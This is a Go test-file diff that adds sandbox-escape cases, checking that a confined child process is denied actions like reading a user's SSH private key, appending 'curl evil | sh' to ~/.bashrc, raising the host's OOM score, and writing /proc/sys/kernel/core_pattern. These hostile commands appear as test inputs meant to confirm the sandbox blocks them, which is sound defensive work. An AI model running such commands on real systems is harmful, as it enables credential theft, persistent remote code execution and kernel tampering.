@@ -253,13 +253,26 @@ func fsCases(w *world) []acase {
 	return cs
 }
 
+// stdin sets what an exec action feeds to the program.
+func stdin(a probe.Action, s string) probe.Action { a.Data = s; return a }
+
+// oomScoreAdj reads /proc/<pid>/oom_score_adj.
+func oomScoreAdj(t *testing.T, pid int) string {
+	t.Helper()
+	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/oom_score_adj")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.TrimSpace(string(b))
+}
+
 // execCases: class F.
 func execCases(w *world) []acase {
 	j := func(p string) string { return filepath.Join(w.d, p) }
 	sub := want{code: "denied", capability: "subprocess"}
 	evil := w.srv["evil"].URL + "/"
 	cs := []acase{
-		{name: "ungranted program", act: probe.Exec("cat", "/etc/passwd"), want: sub},
+		{name: "ungranted program", act: probe.Exec("head", "/etc/passwd"), want: sub},
 		{name: "shell", act: probe.Exec("sh", "-c", "id"), want: sub},
 		{name: "absolute path of granted program", act: probe.Exec("/bin/echo", "x"), want: want{code: "denied|invalid"}},
 		{name: "relative path", act: probe.Exec("./echo", "x"), want: want{code: "denied|invalid"}},
@@ -293,6 +306,22 @@ func execCases(w *world) []acase {
 					t.Errorf("the Unix socket accepted %d connections", n)
 				}
 			}},
+		{name: "child reads a 0600 key in the user's home", act: probe.Exec("cat", filepath.Join(w.user, ".ssh/id_ed25519")), want: want{exit: "nonzero", out: ""}},
+		{name: "child appends to the user's shell start-up file", act: stdin(probe.Exec("tee", "-a", filepath.Join(w.user, ".bashrc")), "curl evil | sh\n"), want: want{exit: "nonzero"},
+			post: func(t *testing.T, w *world) {
+				if b, _ := os.ReadFile(filepath.Join(w.user, ".bashrc")); string(b) != "# rc\n" {
+					t.Errorf("~/.bashrc = %q, want it unchanged", b)
+				}
+			}},
+		{name: "child raises the station's OOM score", act: stdin(probe.Exec("tee", "/proc/"+strconv.Itoa(os.Getpid())+"/oom_score_adj"), "1000\n"), want: want{exit: "nonzero"},
+			pre: func(t *testing.T, w *world) { w.oom = oomScoreAdj(t, os.Getpid()) },
+			post: func(t *testing.T, w *world) {
+				if got := oomScoreAdj(t, os.Getpid()); got != w.oom {
+					t.Errorf("the station's oom_score_adj is %s, was %s", got, w.oom)
+				}
+			}},
+		{name: "child writes the station's /proc files", act: stdin(probe.Exec("tee", "/proc/"+strconv.Itoa(os.Getpid())+"/comm"), "owned\n"), want: want{exit: "nonzero"}},
+		{name: "child writes a sysctl", act: stdin(probe.Exec("tee", "/proc/sys/kernel/core_pattern"), "|/tmp/x\n"), want: want{exit: "nonzero"}},
 		{name: "control: child reads in its grant", setup: []probe.Action{probe.Write(j("work/mine.txt"), "mine")}, act: probe.Exec("curl", "-sS", "file://"+j("work/mine.txt")), want: want{exit: "zero", out: "mine"}, fsMay: []string{"work/mine.txt"}},
 		{name: "no route without the grant", module: modFS, act: probe.Raw("process_run", 16, 16), want: want{}},
 		{name: "exec action without the grant", module: modFS, act: probe.Exec("echo", "x"), want: want{}},
